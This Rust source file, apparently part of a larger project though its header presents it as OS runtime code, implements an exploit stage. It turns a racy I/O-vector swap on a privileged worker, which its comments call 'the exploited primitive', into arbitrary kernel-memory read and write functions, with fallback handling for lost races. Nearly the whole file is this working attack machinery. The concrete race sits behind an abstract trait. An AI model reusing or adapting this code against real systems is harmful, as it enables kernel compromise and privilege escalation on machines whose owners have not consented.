// Copyright 2026 Open Nexus OS Contributors
// SPDX-License-Identifier: Apache-2.0

//! CONTEXT: Typed kernel read/write over the command channel and a pair of byte streams
//! OWNERS: @runtime
//! STATUS: Functional
//! API_STABILITY: Stable
//! TEST_COVERAGE: Unit tests + proptest (host)
//!
//! PUBLIC API:
//!   - KernelAccessor: kernel_base, copy_in, copy_out, read1/2/4/8, write1/2/4/8, free
//!   - IovRedirect: the racy I/O-vector swap primitive
//!   - AccessorParts: streams, redirect and memory handed to the accessor
//!   - Error: accessor failures (short transfers, swap failure, deadlock risk, cancellation)
//!
//! INVARIANTS:
//!   - Streams are touched only after the slot is armed and the redirect attempted
//!   - A short transfer fails the call immediately; nothing is retried or resumed
//!   - Per-call scratch is released on every exit path
//!   - The staging buffer is released exactly once (free or drop)

use std::io::{self, Read, Write};
use std::sync::Arc;

use kaccess_abi::{Direction, KernelAddress, Width};

use crate::command::{ChannelError, CommandChannel};
use crate::errno::OsError;
use crate::memory::{self, AddressSpace, Scratch};

/// Result alias for accessor operations.
pub type Result<T> = core::result::Result<T, Error>;

/// Errors produced by the kernel accessor.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// Command channel refused the request.
    #[error(transparent)]
    Channel(#[from] ChannelError),
    /// Inbound stream delivered a different number of bytes than requested.
    #[error("Unexpected bytes read: {actual} (expected {expected})")]
    ShortRead {
        /// Bytes requested.
        expected: usize,
        /// Bytes delivered.
        actual: usize,
    },
    /// Outbound stream accepted a different number of bytes than supplied.
    #[error("Unexpected bytes written: {actual}")]
    ShortWrite {
        /// Bytes supplied.
        expected: usize,
        /// Bytes accepted.
        actual: usize,
    },
    /// The I/O-vector redirect lost the race.
    #[error("Unable to swap iov")]
    SwapFailed,
    /// The fallback transfer after a lost race did not complete; the worker may be stuck.
    #[error("Deadlock risk")]
    DeadlockRisk {
        /// Root failure.
        source: Box<Error>,
    },
    /// Waiting for the worker was interrupted.
    #[error("Interrupted while waiting")]
    Cancelled {
        /// The interruption.
        source: ChannelError,
    },
    /// Transfer larger than the staging buffer that receives fallback bytes.
    #[error("transfer of {len} bytes exceeds the {capacity}-byte staging buffer")]
    TransferTooLarge {
        /// Requested length.
        len: usize,
        /// Staging buffer size.
        capacity: usize,
    },
    /// A stream reported an OS error.
    #[error(transparent)]
    Os(#[from] OsError),
    /// Scratch allocation failed.
    #[error(transparent)]
    Memory(#[from] memory::Error),
}

/// Redirects the worker's pending I/O vector.
///
/// This is the exploited primitive: it is only expected to succeed inside the race window.
pub trait IovRedirect: Send {
    /// Replaces the vector base `original` with `kaddr` for the next `len`-byte transfer in
    /// `direction`. Returns `false` when the swap did not take.
    fn swap(&mut self, direction: Direction, original: usize, kaddr: KernelAddress, len: usize)
        -> bool;
}

/// Everything an accessor owns besides the channel.
pub struct AccessorParts {
    /// Stream the worker fills during copy-out.
    pub inbound: Box<dyn Read + Send>,
    /// Stream the worker drains during copy-in.
    pub outbound: Box<dyn Write + Send>,
    /// Swap primitive.
    pub redirect: Box<dyn IovRedirect>,
    /// Memory used for staging and per-call scratch.
    pub memory: Arc<dyn AddressSpace>,
    /// Size of the staging buffer, i.e. the largest single transfer.
    pub staging_size: usize,
}

/// Kernel read/write handle for one session.
///
/// Transfers take `&mut self`: concurrent callers serialize through whatever owns the accessor.
pub struct KernelAccessor {
    channel: Arc<CommandChannel>,
    kstack: KernelAddress,
    inbound: Box<dyn Read + Send>,
    outbound: Box<dyn Write + Send>,
    redirect: Box<dyn IovRedirect>,
    memory: Arc<dyn AddressSpace>,
    staging: Scratch,
}

impl KernelAccessor {
    /// Builds an accessor driving `channel`, anchored at the kernel stack address `kstack`.
    pub fn new(
        channel: Arc<CommandChannel>,
        kstack: KernelAddress,
        parts: AccessorParts,
    ) -> Result<Self> {
        let AccessorParts { inbound, outbound, redirect, memory, staging_size } = parts;
        let staging = Scratch::alloc(&memory, staging_size)?;
        log::debug!(
            "accessor: kstack {kstack}, staging {staging_size} bytes at {:#x}",
            staging.addr()
        );
        Ok(Self { channel, kstack, inbound, outbound, redirect, memory, staging })
    }

    /// Kernel stack/base address established for this session.
    pub fn kernel_base(&self) -> KernelAddress {
        self.kstack
    }

    /// Largest single transfer.
    pub fn staging_size(&self) -> usize {
        self.staging.len()
    }

    /// Channel driven by this accessor.
    pub fn channel(&self) -> &Arc<CommandChannel> {
        &self.channel
    }

    /// Arms the worker for `direction` and attempts the redirect; `Ok(false)` is a lost race.
    fn arm(&mut self, direction: Direction, kaddr: KernelAddress, len: usize) -> Result<bool> {
        let capacity = self.staging.len();
        if len > capacity {
            return Err(Error::TransferTooLarge { len, capacity });
        }
        self.channel.request_operation(direction.command())?;
        Ok(self.redirect.swap(direction, self.staging.addr(), kaddr, len))
    }

    /// Copies `src` into kernel memory at `kaddr`.
    pub fn copy_in(&mut self, src: &[u8], kaddr: KernelAddress) -> Result<()> {
        let len = src.len();
        if len == 0 {
            return Ok(());
        }
        if !self.arm(Direction::CopyIn, kaddr, len)? {
            log::warn!("copy-in: lost the race redirecting {len} bytes to {kaddr}");
            // The worker is blocked on the original vector; feed it once so it can settle.
            let delivered = self.outbound.write(src);
            return Err(self.after_lost_race(delivered, len));
        }

        let written = self
            .outbound
            .write(src)
            .map_err(|err| OsError::from_io("KernelAccessor::copy_in", &err))?;
        if written != len {
            return Err(Error::ShortWrite { expected: len, actual: written });
        }
        self.settle()
    }

    /// Copies `dst.len()` bytes of kernel memory at `kaddr` into `dst`.
    pub fn copy_out(&mut self, kaddr: KernelAddress, dst: &mut [u8]) -> Result<()> {
        let len = dst.len();
        if len == 0 {
            return Ok(());
        }
        if !self.arm(Direction::CopyOut, kaddr, len)? {
            log::warn!("copy-out: lost the race redirecting {len} bytes from {kaddr}");
            let drained = self.inbound.read(&mut self.staging.as_mut_slice()[..len]);
            return Err(self.after_lost_race(drained, len));
        }

        let read = self
            .inbound
            .read(dst)
            .map_err(|err| OsError::from_io("KernelAccessor::copy_out", &err))?;
        if read != len {
            return Err(Error::ShortRead { expected: len, actual: read });
        }
        self.settle()
    }

    fn after_lost_race(&self, fallback: io::Result<usize>, len: usize) -> Error {
        match fallback {
            Ok(n) if n == len => {
                if let Err(err) = self.settle() {
                    log::warn!("fallback: worker did not settle: {err}");
                }
                Error::SwapFailed
            }
            Ok(n) => {
                log::error!("fallback moved {n} of {len} bytes; privileged worker may be stuck");
                Error::DeadlockRisk { source: Box::new(Error::SwapFailed) }
            }
            Err(err) => {
                log::error!("fallback failed ({err}); privileged worker may be stuck");
                Error::DeadlockRisk { source: Box::new(Error::SwapFailed) }
            }
        }
    }

    /// Waits for the worker to reset the slot; interruption is restored and reported.
    fn settle(&self) -> Result<()> {
        match self.channel.await_idle() {
            Ok(()) => Ok(()),
            Err(ChannelError::Interrupted) => {
                self.channel.interrupt();
                Err(Error::Cancelled { source: ChannelError::Interrupted })
            }
            Err(err) => Err(err.into()),
        }
    }

    fn read_width(&mut self, addr: KernelAddress, width: Width) -> Result<Scratch> {
        let mut scratch = Scratch::alloc(&self.memory, width.bytes())?;
        self.copy_out(addr, scratch.as_mut_slice())?;
        Ok(scratch)
    }

    fn write_width(
        &mut self,
        addr: KernelAddress,
        width: Width,
        fill: impl FnOnce(&mut Scratch),
    ) -> Result<()> {
        let mut scratch = Scratch::alloc(&self.memory, width.bytes())?;
        fill(&mut scratch);
        self.copy_in(scratch.as_slice(), addr)
    }

    /// Reads one byte.
    pub fn read1(&mut self, addr: KernelAddress) -> Result<u8> {
        Ok(self.read_width(addr, Width::Byte)?.read_u8(0))
    }

    /// Reads two bytes.
    pub fn read2(&mut self, addr: KernelAddress) -> Result<u16> {
        Ok(self.read_width(addr, Width::Word)?.read_u16(0))
    }

    /// Reads four bytes.
    pub fn read4(&mut self, addr: KernelAddress) -> Result<u32> {
        Ok(self.read_width(addr, Width::Dword)?.read_u32(0))
    }

    /// Reads eight bytes.
    pub fn read8(&mut self, addr: KernelAddress) -> Result<u64> {
        Ok(self.read_width(addr, Width::Qword)?.read_u64(0))
    }

    /// Writes one byte.
    pub fn write1(&mut self, addr: KernelAddress, value: u8) -> Result<()> {
        self.write_width(addr, Width::Byte, |s| s.write_u8(0, value))
    }

    /// Writes two bytes.
    pub fn write2(&mut self, addr: KernelAddress, value: u16) -> Result<()> {
        self.write_width(addr, Width::Word, |s| s.write_u16(0, value))
    }

    /// Writes four bytes.
    pub fn write4(&mut self, addr: KernelAddress, value: u32) -> Result<()> {
        self.write_width(addr, Width::Dword, |s| s.write_u32(0, value))
    }

    /// Writes eight bytes.
    pub fn write8(&mut self, addr: KernelAddress, value: u64) -> Result<()> {
        self.write_width(addr, Width::Qword, |s| s.write_u64(0, value))
    }

    /// Releases the staging buffer and closes both streams.
    pub fn free(self) {
        log::debug!("accessor: releasing staging buffer at {:#x}", self.staging.addr());
    }
}
